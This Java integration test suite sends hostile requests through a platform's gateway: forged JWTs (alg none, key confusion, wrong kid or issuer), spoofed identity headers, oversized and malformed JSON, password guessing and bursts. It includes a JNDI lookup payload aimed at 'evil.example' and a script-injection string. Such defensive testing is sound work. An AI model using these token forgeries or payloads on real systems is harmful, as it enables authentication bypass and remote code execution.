package dev.taskflow.platform;

import static dev.taskflow.platform.GatewayClient.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import dev.taskflow.api.messaging.Topics;
import dev.taskflow.platform.GatewayClient.User;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.Modifier;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.header.Header;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The hostile-request suite: forged tokens, spoofed identity headers, oversized and malformed input, server-owned
 * fields, password guessing, tenant bursts and insane correlation ids, all against the whole platform through its
 * gateway. Each hostile request carries a correlation id starting with {@code hostile-}; every test checks the
 * answer and that the event stores did not grow, and the last one proves that no event, Kafka record or audit
 * record carries such an id, and that no secret or raw hostile header value reached any log line.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
// per-user budget low enough that a test can exhaust it quickly, high enough for every other test here
@PlatformProperties({"GATEWAY_RATE_LIMIT_USER_CAPACITY=40", "GATEWAY_RATE_LIMIT_USER_PER_SECOND=20"})
class HostileRequestsIT extends PlatformIntegrationTest {

    private static final String PASSWORD = "correct-horse-1";
    private static final AtomicInteger SEQUENCE = new AtomicInteger();
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    static User alice;
    static String organizationId;
    static String projectId;
    static LeakDetector leaks;

    @BeforeAll
    static void aliceAndHerProject() {
        Owner owner = newOwner("alice");
        alice = owner.user();
        organizationId = owner.organizationId();
        projectId = owner.projectId();
        // the organization's plan arrives at billing through Kafka: settled before any test counts events
        awaitEntitlements(alice.token(), organizationId);
        leaks = LeakDetector.attach();
        leaks.watchFor(alice.token());
        leaks.watchFor(PASSWORD);
    }

    @AfterAll
    static void detach() {
        if (leaks != null) {
            leaks.detach();
        }
    }

    // ------------------------------------------------------------------------------------------ tokens

    @Test
    @Order(1)
    void forgedExpiredAndMisaddressedTokensAreRefusedAtTheEdge() {
        String jwks = gateway.send("GET", "/auth/jwks.json", alice.token(), null, null).body();
        ForgedTokens forge = ForgedTokens.forUser(data.resolve("identity/signing-key.pem"), jwks, alice.userId());
        Instant now = Instant.now();
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("garbage", "not.a.token");
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            tokens.put("alg " + none, forge.unsigned(none));
        }
        tokens.put("HS256 keyed with our public key", forge.hmacWithOurPublicKey());
        tokens.put("another key claiming our kid", forge.signedByAnotherKeyClaimingOurKid());
        tokens.put("no kid", forge.signedWithoutKid());
        tokens.put("unknown kid", forge.signedWithUnknownKid());
        tokens.put("expired", forge.signed(forge.honestClaims()
                .issueTime(Date.from(now.minusSeconds(3600))).notBeforeTime(Date.from(now.minusSeconds(3600)))
                .expirationTime(Date.from(now.minusSeconds(120))).build()));
        tokens.put("not yet valid", forge.signed(forge.honestClaims().notBeforeTime(Date.from(now.plusSeconds(600))).build()));
        tokens.put("without expiry", forge.signed(forge.honestClaims().expirationTime(null).build()));
        tokens.put("another issuer", forge.signed(forge.honestClaims().issuer("https://evil.example").build()));
        tokens.put("another audience", forge.signed(forge.honestClaims().audience("another-platform").build()));
        WrittenState before = WrittenState.of(platform);

        // the forger's control: the same claims, honestly signed, are accepted, so each refusal is the flaw's
        assertThat(gateway.send("POST", "/workflow/projects", forge.signed(forge.honestClaims().build()), organizationId,
                "{\"name\":\"Control\"}").statusCode()).isEqualTo(201);
        tokens.forEach((flaw, token) -> {
            HttpResponse<String> answer = post("/workflow/tasks", taskBody("Forged"), token);
            assertThat(answer.statusCode()).as(flaw + ": " + answer.body()).isEqualTo(401);
            assertProblem(flaw, answer);
        });
        assertThat(WrittenState.of(platform)).isEqualTo(before.plusEvents("workflow", 1));
    }

    // ------------------------------------------------------------------------------------------ headers

    @Test
    @Order(2)
    void identityHeadersSentByClientsAreNotBelieved() {
        User mallory = gateway.signUp("mallory-" + UUID.randomUUID().toString().substring(0, 8));
        leaks.watchFor(mallory.token());
        WrittenState before = WrittenState.of(platform);

        HttpResponse<String> spoofed = send("POST", "/workflow/tasks", taskBody("Spoofed"), mallory.token(), Map.of(
                "X-User-Id", alice.userId(), "X-Service-Credential", "guessed-guessed-guessed-guessed-guessed",
                "X-Organization-Id", organizationId));
        HttpResponse<String> anonymous = send("POST", "/workflow/tasks", taskBody("Anonymous"), null, Map.of(
                "X-User-Id", alice.userId(), "X-Organization-Id", organizationId));
        HttpResponse<String> bypass = sendTo(platform.port("command-side"), "POST", "/workflow/tasks",
                taskBody("Bypass"), Map.of("X-User-Id", alice.userId(), "X-Organization-Id", organizationId));

        assertThat(spoofed.statusCode()).as(spoofed.body()).isEqualTo(403);
        assertThat(json(spoofed).get("detail").asText()).contains("Not a member");
        assertThat(anonymous.statusCode()).isEqualTo(401);
        assertThat(bypass.statusCode()).as("a service reached without the gateway's credential: " + bypass.body())
                .isEqualTo(401);
        assertThat(WrittenState.of(platform)).isEqualTo(before);
    }

    // ------------------------------------------------------------------------------------------ input

    @Test
    @Order(3)
    void oversizedAndMalformedInputIsRefusedWithAProblemNamingIt() {
        WrittenState before = WrittenState.of(platform);
        Map<String, Integer> expected = new LinkedHashMap<>();
        Map<String, HttpResponse<String>> answers = new LinkedHashMap<>();

        answers.put("huge header", send("POST", "/workflow/tasks", taskBody("Big header"), alice.token(),
                Map.of("X-Organization-Id", organizationId, "X-Padding", "p".repeat(20 * 1024))));
        expected.put("huge header", 431);
        answers.put("huge body", post("/workflow/tasks", "{\"projectId\":\"" + projectId + "\",\"title\":\"x\",\"description\":\""
                + "d".repeat(2 * 1024 * 1024) + "\"}", alice.token()));
        expected.put("huge body", 413);
        answers.put("huge chunked body", sendStreamed("/workflow/tasks", ("{\"projectId\":\"" + projectId
                + "\",\"title\":\"x\",\"description\":\"" + "d".repeat(2 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8)));
        expected.put("huge chunked body", 413);
        Map<String, String> bad = new LinkedHashMap<>();
        // in a field nobody reads: the parser still has to get through it, and must give up early
        bad.put("deep nesting", "{\"projectId\":\"" + projectId + "\",\"title\":\"x\",\"extra\":"
                + "[".repeat(10_000) + "]".repeat(10_000) + "}");
        bad.put("deep objects", "{\"projectId\":\"" + projectId + "\",\"title\":\"x\",\"extra\":"
                + "{\"a\":".repeat(500) + "1" + "}".repeat(500) + "}");
        bad.put("huge number", "{\"projectId\":\"" + projectId + "\",\"title\":\"x\",\"extra\":1" + "0".repeat(5_000) + "}");
        bad.put("nested array for a string", "{\"projectId\":\"" + projectId + "\",\"title\":" + "[".repeat(10_000) + "}");
        bad.put("huge exponent", "{\"projectId\":\"" + projectId + "\",\"title\":1e999999999}");
        bad.put("long string", "{\"projectId\":\"" + projectId + "\",\"title\":\"" + "t".repeat(300_000) + "\"}");
        bad.put("malformed", "{\"projectId\":");
        bad.put("wrong type", "{\"projectId\":\"" + projectId + "\",\"title\":{}}");
        bad.put("array body", "[1,2,3]");
        bad.put("null body", "null");
        bad.put("empty body", "");
        bad.put("unknown enum", "{\"projectId\":\"" + projectId + "\",\"title\":\"x\",\"priority\":\"URGENTEST\"}");
        bad.forEach((what, body) -> {
            answers.put(what, post("/workflow/tasks", body, alice.token()));
            expected.put(what, 400);
        });
        answers.put("invalid UTF-8", sendBytes("/workflow/tasks", "application/json", concat(
                ("{\"projectId\":\"" + projectId + "\",\"title\":\"").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF}, "\"}".getBytes(StandardCharsets.UTF_8))));
        expected.put("invalid UTF-8", 400);
        answers.put("not JSON", sendBytes("/workflow/tasks", "text/plain", "title=x".getBytes(StandardCharsets.UTF_8)));
        expected.put("not JSON", 415);

        answers.forEach((what, answer) -> {
            assertThat(answer.statusCode()).as(what + ": " + answer.body()).isEqualTo(expected.get(what));
            assertProblem(what, answer);
        });
        assertThat(json(answers.get("deep nesting")).get("detail").asText()).containsIgnoringCase("nesting");
        assertThat(json(answers.get("huge number")).get("detail").asText()).containsIgnoringCase("number");
        assertThat(json(answers.get("long string")).get("detail").asText()).containsIgnoringCase("string");
        assertThat(json(answers.get("wrong type")).get("detail").asText()).contains("title");
        assertThat(WrittenState.of(platform)).isEqualTo(before);
    }

    @Test
    @Order(4)
    void bodiesCannotSetServerOwnedFields() {
        User mallory = gateway.signUp("owner-" + UUID.randomUUID().toString().substring(0, 8));
        String foreign = json(gateway.send("POST", "/organizations", mallory.token(), null, "{\"name\":\"Elsewhere\"}"))
                .get("organizationId").asText();
        String chosenId = UUID.randomUUID().toString();
        awaitEntitlements(mallory.token(), foreign);
        WrittenState before = WrittenState.of(platform);

        HttpResponse<String> created = gateway.send("POST", "/workflow/tasks", alice.token(), organizationId,
                "{\"projectId\":\"" + projectId + "\",\"title\":\"Honest\","
                + "\"taskId\":\"" + chosenId + "\",\"organizationId\":\"" + foreign + "\",\"createdBy\":\"" + mallory.userId()
                + "\",\"status\":\"DONE\",\"createdAt\":\"1999-01-01T00:00:00Z\",\"assigneeId\":\"" + mallory.userId() + "\"}");

        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        JsonNode task = json(created);
        assertThat(task.get("taskId").asText()).isNotEqualTo(chosenId);
        assertThat(task.get("organizationId").asText()).isEqualTo(organizationId);
        assertThat(task.get("createdBy").asText()).isEqualTo(alice.userId());
        assertThat(task.get("status").asText()).isEqualTo("OPEN");
        assertThat(Instant.parse(task.get("createdAt").asText())).isAfter(Instant.now().minus(Duration.ofMinutes(5)));
        assertThat(task.path("assigneeId").isMissingNode() || task.get("assigneeId").isNull()).isTrue();
        assertThat(WrittenState.of(platform)).isEqualTo(before.plusEvents("workflow", 1));
    }

    // ------------------------------------------------------------------------------------------ sign-in

    @Test
    @Order(5)
    void guessingAPasswordLocksTheUsernameOut() {
        String name = "victim-" + UUID.randomUUID().toString().substring(0, 8);
        gateway.signUp(name);
        List<Integer> guesses = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            guesses.add(signIn(name, "wrong-guess-" + i).statusCode());
        }

        HttpResponse<String> rightPasswordDuringTheLock = signIn(name, PASSWORD);

        assertThat(guesses).containsOnly(401);
        assertThat(rightPasswordDuringTheLock.statusCode()).isEqualTo(429);
        assertProblem("locked sign-in", rightPasswordDuringTheLock);
        assertThat(rightPasswordDuringTheLock.headers().firstValueAsLong("Retry-After").orElse(0)).isPositive();
        // alice, from the same address, is not locked out by somebody else's username
        assertThat(signIn(alice.username(), PASSWORD).statusCode()).isEqualTo(200);
    }

    // ------------------------------------------------------------------------------------------ bursts

    @Test
    @Order(6)
    void oneTenantsBurstIsLimitedWhileAnotherTenantIsServed() {
        User noisy = gateway.signUp("noisy-" + UUID.randomUUID().toString().substring(0, 8));
        String noisyOrg = json(gateway.send("POST", "/organizations", noisy.token(), null, "{\"name\":\"Noisy\"}"))
                .get("organizationId").asText();
        awaitEntitlements(noisy.token(), noisyOrg);
        WrittenState before = WrittenState.of(platform);

        List<CompletableFuture<HttpResponse<String>>> burst = new ArrayList<>();
        for (int i = 0; i < 150; i++) {
            burst.add(HTTP.sendAsync(HttpRequest.newBuilder(URI.create(platform.gatewayUrl() + "/workflow/projects"))
                    .timeout(Duration.ofSeconds(60)).header("Authorization", "Bearer " + noisy.token())
                    .header("X-Organization-Id", noisyOrg).header("X-Correlation-ID", hostileId()).build(),
                    HttpResponse.BodyHandlers.ofString()));
        }
        HttpResponse<String> quiet = gateway.send("GET", "/workflow/projects", alice.token(), organizationId, null);
        List<HttpResponse<String>> answers = burst.stream().map(CompletableFuture::join).toList();

        List<HttpResponse<String>> limited = answers.stream().filter(a -> a.statusCode() == 429).toList();
        assertThat(limited).as("the burst was limited").isNotEmpty();
        assertThat(answers).allSatisfy(a -> assertThat(a.statusCode()).isIn(200, 429));
        HttpResponse<String> first = limited.get(0);
        assertProblem("rate limited", first);
        assertThat(first.headers().firstValueAsLong("Retry-After").orElse(0)).isGreaterThanOrEqualTo(1);
        assertThat(json(first).get("limit").asText()).isEqualTo("per-user");
        assertThat(quiet.statusCode()).as("another tenant during the burst").isEqualTo(200);
        assertThat(gateway.send("GET", "/workflow/projects", alice.token(), organizationId, null).statusCode()).isEqualTo(200);
        assertThat(WrittenState.of(platform)).isEqualTo(before);
    }

    // ------------------------------------------------------------------------------------------ edge ids

    @Test
    @Order(7)
    void correlationIdsThatAreNotSaneAreReplacedAndNeverLogged() {
        List<String> insane = List.of("hostile-" + "x".repeat(300), "hostile-<script>alert(1)</script>",
                "hostile-with spaces and \"quotes\"", "hostile-${jndi:ldap://evil.example/a}");
        insane.forEach(leaks::watchFor);
        for (String id : insane) {
            HttpResponse<String> answer = send("GET", "/workflow/projects", null, alice.token(),
                    Map.of("X-Organization-Id", organizationId, "X-Correlation-ID", id), false);
            assertThat(answer.statusCode()).isEqualTo(200);
            String replaced = answer.headers().firstValue("X-Correlation-ID").orElseThrow();
            assertThat(replaced).isNotEqualTo(id).matches("[A-Za-z0-9._:-]{1,128}");
        }
    }

    // ------------------------------------------------------------------------------------------ the end

    @Test
    @Order(100)
    void nothingHostileReachedTheEventStoresKafkaTheProjectionsOrTheLogs() {
        // a marker after every hostile request: once it is in Kafka and the audit trail, so is anything before it
        String marker = "marker-" + UUID.randomUUID();
        HttpResponse<String> created = gateway.send("POST", "/workflow/tasks", alice.token(), organizationId,
                taskBody("Marker"), marker);
        assertThat(created.statusCode()).isEqualTo(201);
        await().atMost(RECOVERY).until(() -> json(gateway.send("GET", "/audit/records?correlationId=" + marker,
                alice.token(), organizationId, null)).size() == 1);

        for (String schema : List.of("workflow", "organization", "billing")) {
            assertThat(jdbc(schema).queryForObject("select count(*) from domain_event_entry "
                    + "where convert_from(meta_data, 'UTF8') like '%hostile-%'", Long.class)).as(schema).isZero();
            assertThat(jdbc(schema).queryForObject("select count(*) from domain_event_entry "
                    + "where convert_from(payload, 'UTF8') like ? or convert_from(meta_data, 'UTF8') like ?", Long.class,
                    "%" + PASSWORD + "%", "%" + PASSWORD + "%")).as(schema).isZero();
        }
        assertThat(jdbc("audit").queryForObject("select count(*) from audit_record where correlation_id like 'hostile-%'",
                Long.class)).isZero();
        List<String> carriers = kafkaRecordsContaining(List.of("hostile-", PASSWORD, alice.token()), marker);
        assertThat(carriers).isEmpty();
        assertThat(leaks.leaks()).isEmpty();
    }

    // ------------------------------------------------------------------------------------------ helpers

    private static void awaitEntitlements(String token, String organization) {
        GatewayClient gateway = new GatewayClient(platform.gatewayUrl());
        await().atMost(RECOVERY).until(() -> gateway.send("GET", "/billing/organizations/" + organization + "/entitlements",
                token, organization, null).statusCode() == 200);
    }

    private static String taskBody(String title) {
        return "{\"projectId\":\"" + projectId + "\",\"title\":\"" + title + "\"}";
    }

    private static String hostileId() {
        return "hostile-" + SEQUENCE.incrementAndGet();
    }

    private HttpResponse<String> post(String path, String body, String token) {
        return send("POST", path, body, token, Map.of("X-Organization-Id", organizationId));
    }

    private HttpResponse<String> signIn(String username, String password) {
        return send("POST", "/auth/token", "{\"username\":\"" + username + "\",\"password\":\"" + password + "\"}",
                null, Map.of());
    }

    private HttpResponse<String> send(String method, String path, String body, String token, Map<String, String> headers) {
        return send(method, path, body, token, headers, true);
    }

    private HttpResponse<String> send(String method, String path, String body, String token, Map<String, String> headers,
                                      boolean withHostileId) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(platform.gatewayUrl() + path))
                .timeout(Duration.ofSeconds(60))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (body != null) {
            request.header("Content-Type", "application/json");
        }
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        if (withHostileId) {
            request.header("X-Correlation-ID", hostileId());
        }
        headers.forEach(request::header);
        return exchange(request);
    }

    private HttpResponse<String> sendBytes(String path, String contentType, byte[] body) {
        return exchange(HttpRequest.newBuilder(URI.create(platform.gatewayUrl() + path)).timeout(Duration.ofSeconds(60))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).header("Content-Type", contentType)
                .header("Authorization", "Bearer " + alice.token()).header("X-Organization-Id", organizationId)
                .header("X-Correlation-ID", hostileId()));
    }

    /** Without a Content-Length: the body arrives in chunks, so only counting can stop it. */
    private HttpResponse<String> sendStreamed(String path, byte[] body) {
        return exchange(HttpRequest.newBuilder(URI.create(platform.gatewayUrl() + path)).timeout(Duration.ofSeconds(60))
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body)))
                .header("Content-Type", "application/json")
                .header("Authorization", "Bearer " + alice.token()).header("X-Organization-Id", organizationId)
                .header("X-Correlation-ID", hostileId()));
    }

    private static HttpResponse<String> sendTo(int port, String method, String path, String body, Map<String, String> headers) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .timeout(Duration.ofSeconds(30)).method(method, HttpRequest.BodyPublishers.ofString(body))
                .header("Content-Type", "application/json").header("X-Correlation-ID", hostileId());
        headers.forEach(request::header);
        return exchange(request);
    }

    private static HttpResponse<String> exchange(HttpRequest.Builder request) {
        try {
            return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static void assertProblem(String what, HttpResponse<String> answer) {
        assertThat(answer.headers().firstValue("Content-Type").orElse("none")).as(what + ": " + answer.body())
                .startsWith("application/problem+json");
        assertThat(json(answer).get("status").asInt()).as(what).isEqualTo(answer.statusCode());
    }

    private static byte[] concat(byte[]... parts) {
        byte[] all = new byte[Arrays.stream(parts).mapToInt(p -> p.length).sum()];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, all, at, part.length);
            at += part.length;
        }
        return all;
    }

    private static JsonNode parse(String text) {
        try {
            return new com.fasterxml.jackson.databind.ObjectMapper().readTree(text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static JdbcTemplate jdbc(String schema) {
        String service = switch (schema) {
            case "workflow" -> "command-side";
            case "organization" -> "organization-service";
            case "billing" -> "billing-service";
            case "audit" -> "audit-projection";
            default -> throw new IllegalArgumentException(schema);
        };
        return platform.context(service).getBean(JdbcTemplate.class);
    }

    /** Every record of every platform topic, up to the marker's; the ones whose value or headers hold a text. */
    private static List<String> kafkaRecordsContaining(List<String> texts, String marker) {
        List<String> topics = new ArrayList<>();
        for (var field : Topics.class.getFields()) {
            if (Modifier.isStatic(field.getModifiers()) && field.getType() == String.class) {
                try {
                    topics.add((String) field.get(null));
                } catch (IllegalAccessException e) {
                    throw new IllegalStateException(e);
                }
            }
        }
        Properties config = new Properties();
        config.put(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, platform.kafkaBootstrapServers());
        config.put(ConsumerConfig.ENABLE_AUTO_COMMIT_CONFIG, "false");
        List<String> carriers = new ArrayList<>();
        try (var consumer = new KafkaConsumer<>(config, new ByteArrayDeserializer(), new ByteArrayDeserializer())) {
            List<TopicPartition> partitions = new ArrayList<>();
            consumer.listTopics().forEach((topic, infos) -> {
                if (topics.contains(topic)) {
                    infos.forEach(info -> partitions.add(new TopicPartition(topic, info.partition())));
                }
            });
            consumer.assign(partitions);
            consumer.seekToBeginning(partitions);
            Map<TopicPartition, Long> ends = consumer.endOffsets(partitions);
            boolean markerSeen = false;
            while (partitions.stream().anyMatch(p -> consumer.position(p) < ends.get(p))) {
                for (ConsumerRecord<byte[], byte[]> record : consumer.poll(Duration.ofSeconds(1))) {
                    StringBuilder text = new StringBuilder(record.value() == null ? "" : new String(record.value(), StandardCharsets.UTF_8));
                    for (Header header : record.headers()) {
                        text.append(' ').append(new String(header.value(), StandardCharsets.UTF_8));
                    }
                    markerSeen |= text.indexOf(marker) >= 0;
                    texts.stream().filter(t -> text.indexOf(t) >= 0)
                            .forEach(t -> carriers.add(record.topic() + "@" + record.offset() + " holds " + t.substring(0, Math.min(10, t.length()))));
                }
            }
            assertThat(markerSeen).as("the marker task's record is on Kafka").isTrue();
        }
        return carriers;
    }

    /** How many events each event store holds: a refused request adds none. */
    record WrittenState(Map<String, Long> events) {

        static WrittenState of(Platform platform) {
            Map<String, Long> events = new LinkedHashMap<>();
            for (String schema : List.of("workflow", "organization", "billing")) {
                events.put(schema, jdbc(schema).queryForObject("select count(*) from domain_event_entry", Long.class));
            }
            return new WrittenState(events);
        }

        WrittenState plusEvents(String schema, long count) {
            Map<String, Long> events = new LinkedHashMap<>(this.events);
            events.merge(schema, count, Long::sum);
            return new WrittenState(events);
        }
    }
}
